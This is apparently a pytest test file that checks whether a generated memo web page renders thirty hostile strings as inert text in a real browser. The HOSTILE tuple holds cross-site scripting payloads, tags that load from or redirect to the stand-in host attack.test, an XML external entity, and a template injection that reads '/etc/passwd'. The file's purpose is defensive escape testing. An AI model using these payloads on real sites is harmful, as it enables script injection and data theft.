"""Hostile text wherever a case can hold text, in a real browser: nothing runs, nothing is asked for, the page holds."""

from __future__ import annotations

from itertools import cycle
from pathlib import Path
from typing import Any

import pytest

from casebook.memo.gate import ELEMENTS, refusals
from casebook.memo.lint import require_true
from tests.memo.browsing import opened
from tests.memo.making import memo_of, page_of
from tests.random_cases import edge_cases

HOSTILE = (
    "<script>document.title='owned'</script>",
    "<ScRiPt src=//attack.test/x.js></sCrIpT>",
    "<img src=x onerror=document.title='owned'>",
    '"><img src=//attack.test/x.png>',
    "'><svg onload=document.title='owned'>",
    "</title><script>document.title='owned'</script>",
    "</style><script>document.title='owned'</script>",
    "</bdi></td></table><script>document.title='owned'</script>",
    "</svg></math><iframe src=//attack.test></iframe>",
    "<svg><desc><![CDATA[</desc><script>document.title='owned'</script>]]></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=document.title='owned'></annotation-xml></math>",
    "<form action=//attack.test><button>x</button></form>",
    "<link rel=stylesheet href=//attack.test/x.css>",
    "<base href=//attack.test/>",
    "<meta http-equiv=refresh content='0;url=//attack.test'>",
    "<object data=//attack.test></object><embed src=//attack.test>",
    "<a href=javascript:document.title='owned'>x</a>",
    "[link](javascript:alert(1)) ![image](//attack.test/x.png) <//attack.test>",
    "' onmouseover='document.title=\"owned\"' autofocus onfocus='document.title=\"owned\"",
    'x" style="background:url(//attack.test)',
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7}",
    "<!-- --><!DOCTYPE x [<!ENTITY e SYSTEM '//attack.test'>]>&e;",
    "&lt;script&gt;&#60;script&#62;&amp;lt;",
    "\u05d0\u05d1\u05d2 (gnp.exe) \u05d3\u05d4 123",
    "zero\u200bwidth\ufeff soft\u00adhyphen no\u00a0break \u3164 \u2003",
    "m\u0301\u0301\u0301" * 60,
    "W" * 300,
    "https://attack.test/" + "path/" * 60,
    "漢字" * 90 + " \U0001f469\u200d\U0001f469\u200d\U0001f467 العربية עברית",
    "= 1 + 1 | ``` ~~~ # > - * _ ` \\ $-5 %s %(x)s \r\n\t None inf nan",
)


def case_with(*texts: str) -> dict[str, Any]:
    """A case that holds these texts in turn in the fields that take one, the labels of its options among them."""
    turn = cycle(texts)
    raw = edge_cases()["growth"]
    raw |= {name: next(turn) for name in ("client", "title", "prepared_by", "confidentiality", "notes")}
    raw["decision"] = {name: next(turn) for name in ("ask", "by", "owner")}
    raw["constraints"] = [
        {"name": next(turn), "wanted": next(turn), "found": next(turn), "status": status} for status in ("fail", "open")
    ]
    first = next(iter(raw["options"]))
    raw["published"] = [
        {"metric": f"full.options.{first}.tco", "value": 1}
        | {name: next(turn) for name in ("unit", "source", "note")}
        | {"reconciles": [{"label": next(turn), "set": {"workload.calls_per_month": 5}}]}
    ]
    calls = raw["workload"]["calls_per_month"]
    raw["workload"]["calls_per_month"] = {"value": [calls / 2, calls, calls * 2], "source": next(turn)}
    for option in raw["options"].values():
        option["label"] = next(turn)
        option["price"]["input"] = {"value": option["price"]["input"], "source": next(turn), "status": "derived"}
    return raw


def assert_holds(browser: Any, raw: dict[str, Any], folder: Path) -> None:
    """The page passes gate and lint, asks for nothing, runs nothing, says nothing, and fits a phone."""
    memo = memo_of(raw)
    html = page_of(memo)
    assert refusals(html) == []
    require_true(html, memo)
    with opened(browser, html, folder, width=360) as (page, asked, said):
        assert asked == []
        assert said == []
        assert page.title() != "owned"
        assert page.evaluate("document.documentElement.scrollWidth") == 360
        elements = page.evaluate("[...document.querySelectorAll('*')].map(e => e.localName)")
        assert set(elements) <= ELEMENTS
        names = page.evaluate("[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())")
        assert not [name for name in names if name.startswith("on") or name in ("style", "src", "srcdoc")]


def test_there_are_thirty():
    assert len(set(HOSTILE)) == 30


@pytest.mark.parametrize("start", [0, 10, 20])
def test_hostile_texts_in_every_field_are_shown_as_text_and_nothing_acts(browser, tmp_path: Path, start):
    assert_holds(browser, case_with(*HOSTILE[start:], *HOSTILE[:start]), tmp_path)


@pytest.mark.soak
@pytest.mark.parametrize("text", HOSTILE)
def test_each_hostile_text_in_all_fields_at_once(browser, tmp_path: Path, text):
    assert_holds(browser, case_with(text), tmp_path)
